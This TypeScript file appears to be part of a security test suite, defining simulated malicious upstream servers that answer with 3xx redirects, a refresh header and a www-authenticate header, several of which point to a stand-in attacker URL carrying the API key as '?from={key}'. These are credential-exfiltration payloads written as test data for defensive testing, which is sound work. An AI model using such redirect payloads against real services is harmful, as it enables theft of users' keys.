import type { Attack } from '../Attack.js';
import { ATTACKER_URL, reply } from '../support/replies.js';

const toAttacker = `location: ${ATTACKER_URL}/user/credits/info?from={key}`;

/** Upstreams that redirect the server, and the key with it. */
export const redirects: readonly Attack[] = [
  ...[301, 302, 303, 307, 308].map((status) => ({
    name: `a ${status} to another host`,
    upstream: reply({ status: `${status} Moved`, headers: [toAttacker], body: '' }),
  })),
  {
    name: 'a 302 to another path',
    upstream: (request, ...to) => {
      const isFirst = request.startsWith('GET /user/credits/info');
      const moved = { status: '302 Found', headers: ['location: /user/keys'], body: '' };
      reply(isFirst ? moved : {})(request, ...to);
    },
  },
  {
    name: 'a redirect to itself',
    upstream: reply({ status: '302 Found', headers: ['location: /user/credits/info'], body: '' }),
  },
  {
    name: 'a 302 with two locations',
    upstream: reply({ status: '302 Found', headers: ['location: /a', toAttacker], body: '' }),
  },
  ...[300, 304, 305, 306].map((status) => ({
    name: `a ${status} with a location`,
    upstream: reply({ status: `${status} See`, headers: [toAttacker], body: '' }),
  })),
  {
    name: 'a 200 that refreshes to another host',
    upstream: reply({ headers: [`refresh: 0; url=${ATTACKER_URL}/`] }),
    harm: ({ received }) => /refresh:/i.test(received) && 'the header',
  },
  {
    name: 'a 401 that requests another key',
    upstream: reply({
      status: '401 Unauthorized',
      headers: [`www-authenticate: Bearer authorization_uri="${ATTACKER_URL}/"`],
      body: '{}',
    }),
    harm: ({ received }) => /authorization_uri/.test(received) && 'the header',
  },
];
